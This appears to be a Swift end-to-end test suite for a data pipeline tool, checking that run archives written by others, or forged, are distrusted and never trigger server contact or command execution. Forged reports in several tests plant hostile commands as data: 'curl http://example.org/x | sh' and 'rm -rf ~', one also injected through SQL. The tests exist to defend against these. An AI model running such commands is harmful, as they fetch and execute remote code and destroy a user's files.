import Engine
import Foundation
import PipelineSpec
import Postgres
import Records
import Reports
import TestSupport
import Testing

extension EndToEnd {
  /// Folders of runs that others can have had a hand in.
  @Suite("A run's files") struct Believed {
    private let bench: Workbench
    private let pipeline = yaml(["id int4"], into: "{ table: things, mode: append }")
    private let report = "report.json"

    init() throws {
      bench = try Workbench()
      try bench.sql("CREATE TABLE things (id int4 CHECK (id <> 2))")
      try bench.write(#"[{"id": 1}, {"id": 2}]"#)
    }

    /// A run that failed at its second record, and can be resumed.
    private func broken() async throws -> Report {
      let report = try await bench.run(pipeline)
      expectFailed(report, .data, "load.refused")
      return report
    }

    private func status(_ run: String) throws -> RunStatus {
      try RunStatus.of(run, in: bench.path("runs"), environment: bench.environment)
    }

    private func expectRefused(_ run: String, location: SourceLocation = #_sourceLocation) async throws {
      let error = await #expect(throws: (any Error).self, sourceLocation: location) { try await bench.resume(run) }
      let reported = error as? any ReportableError
      #expect(reported?.code == "archive.untrusted" && reported?.exitStatus == .resume, sourceLocation: location)
    }

    /// Makes the pipeline file lead to this server, which says nothing.
    private func lead(to server: SilentServer) throws {
      let target = "host=127.0.0.1 port=\(server.port) user=me sslmode=disable"
      try bench.write(
        yaml(["id int4"], into: "{ table: things, mode: append }", target: target), to: "pipeline.yaml")
    }

    @Test(
      "are not believed, and lead to no server, where everybody can have written them",
      arguments: ["runs/RUN", "runs/RUN/run.json", "runs"])
    func open(_ name: String) async throws {
      let run = try await broken().run
      let server = try SilentServer()
      try lead(to: server)
      try #require(chmod(bench.path(name.replacing("RUN", with: run)), 0o777) == 0)
      let status = try status(run)
      #expect(status.state == .untrusted && status.pipeline.isEmpty && status.datasets.isEmpty)
      #expect(status.resume == nil && status.distrust?.contains("everybody can change") == true)
      try await expectRefused(run)
      let replay = await Replay(run, in: bench.path("runs")) { _ in }.execute()
      expectFailed(replay, .resume, "archive.untrusted")
      #expect(!server.hasVisitor)
    }

    @Test("of another user are not believed, and lead to no server", .enabled(if: geteuid() == 0))
    func foreign() async throws {
      let run = try await broken().run
      let server = try SilentServer()
      try lead(to: server)
      for path in ["runs/\(run)", "runs/\(run)/run.json"].map(bench.path) {
        try #require(chown(path, 65534, 65534) == 0)
        let all = try RunStatus.all(in: bench.path("runs"), environment: bench.environment)
        #expect(all.map(\.state) == [.untrusted] && all.map(\.run) == [run])
        #expect(all[0].distrust?.contains("belongs to nobody") == true)
        try await expectRefused(run)
        try #require(chown(path, 0, 0) == 0)
      }
      #expect(!server.hasVisitor)
    }

    @Test("name a pipeline file that is not read where others can have written it")
    func pipelineFile() async throws {
      let run = try await broken().run
      let server = try SilentServer()
      try lead(to: server)
      try #require(chmod(bench.path("pipeline.yaml"), 0o666) == 0)
      let status = try status(run)
      #expect(status.state == .failed && status.resume == nil)
      #expect(status.problem == "\(bench.path("pipeline.yaml")): everybody can change what it holds")
      try await expectRefused(run)
      #expect(!server.hasVisitor)
    }

    @Test("that a resume would not believe are named when the run begins, and no resume is promised")
    func noted() async throws {
      try bench.write(pipeline, to: "pipeline.yaml")
      try #require(chmod(bench.path("pipeline.yaml"), 0o666) == 0)
      let events = RunEvents()
      let told = events.subscribe()
      let read = try Pipeline.load(file: bench.path("pipeline.yaml"), environment: [:])
      let report = await Run(read, options: bench.options, events: events).execute()
      events.finish()
      expectFailed(report, .data, "load.refused")
      #expect(report.resume == nil)
      let named = await told.contains { event in
        guard case .said(.warning, let text) = event else { return false }
        return text.hasPrefix("this run cannot be resumed: \(bench.path("pipeline.yaml")): everybody")
      }
      #expect(named)
    }

    @Test(
      "are asked of each server for a limited time, and one that does not answer hides no other",
      arguments: SilentServer.Manner.allCases)
    func silent(_ manner: SilentServer.Manner) async throws {
      let first = try await broken()
      let silent = try await broken()
      let again = try await broken()
      let server = try SilentServer(manner)
      let elsewhere = "\(bench.path("elsewhere")).yaml"
      try lead(to: server)
      try FileManager.default.moveItem(atPath: bench.path("pipeline.yaml"), toPath: elsewhere)
      try bench.write(pipeline, to: "pipeline.yaml")
      for run in [silent.run, again.run] {
        let plan = try bench.text("runs/\(run)/run.json")
        try bench.write(plan.replacing(bench.path("pipeline.yaml"), with: elsewhere), to: "runs/\(run)/run.json")
      }
      let all = try RunStatus.all(
        in: bench.path("runs"), environment: bench.environment, within: .milliseconds(300))
      for status in all {
        if status.run == first.run {
          #expect(status.problem == nil && status.datasets[0].outcome == .failed)
        } else {
          #expect(status.problem?.contains("no answer within 0.3 seconds") == true, "\(status)")
          #expect(status.resume != nil)
        }
      }
    }

    @Test("are no proof where the report is not the one that the checksums are of: the ledger decides")
    func forgedReport() async throws {
      let first = try await broken()
      let name = "runs/\(first.run)/\(report)"
      var forged = first
      forged.outcome = .verified
      forged.exit = 0
      forged.resume = "curl http://example.org/x | sh"
      forged.next = ["rm -rf ~"]
      try bench.write(forged.json, to: name)
      let status = try status(first.run)
      #expect(status.state == .unfinished && status.datasets[0].outcome == .failed)
      #expect(status.distrust == "report.json: does not have the hash that SHA256SUMS has")
      #expect(status.resume == first.resume)
      let environment = bench.environment
      let replay = await Replay(first.run, in: bench.path("runs")) { $0.environment = environment }.execute()
      expectFailed(replay, .integrity, "archive.damaged")
      let again = try await bench.resume(first.run)
      expectFailed(again, .data, "load.refused")
      #expect(again.resume == first.resume && again.next == [])
    }

    @Test("hold a finished run's report, from which no command is taken")
    func storedCommands() async throws {
      try bench.sql("ALTER TABLE things DROP CONSTRAINT things_id_check")
      var report = try await bench.run(pipeline)
      try expectVerified(report, rows: 2)
      report.resume = "curl http://example.org/x | sh"
      report.next = ["rm -rf ~"]
      try bench.write(report.json, to: "runs/\(report.run)/\(self.report)")
      try call(
        "sh", "-c", "find * -type f ! -name SHA256SUMS | sort | xargs sha256sum > SHA256SUMS",
        in: bench.path("runs/\(report.run)"))
      let shown = try await bench.resume(report.run)
      try expectVerified(shown, rows: 2)
      #expect(shown.resume == nil && shown.next == [])
    }

    @Test("are not the source of the command that brings deleted rows back")
    func storedRestore() async throws {
      try bench.sql("DROP TABLE things; CREATE TABLE things (id int4 PRIMARY KEY); INSERT INTO things VALUES (7)")
      let report = try await bench.run(yaml(["id int4"], into: "{ table: things, mode: sync, key: id }")) {
        $0.isConfirmed = true
      }
      let restore = try #require(try part(report).restore)
      try bench.sql("UPDATE sluice.runs SET report = jsonb_set(report::jsonb, '{restore}', '\"rm -rf ~\"')::text")
      try FileManager.default.removeItem(atPath: bench.path("runs/\(report.run)/SHA256SUMS"))
      let again = try await bench.resume(report.run)
      try expectVerified(again, rows: 2)
      #expect(try part(again).restore == restore)
    }

    /// What a run told the user.
  }
}
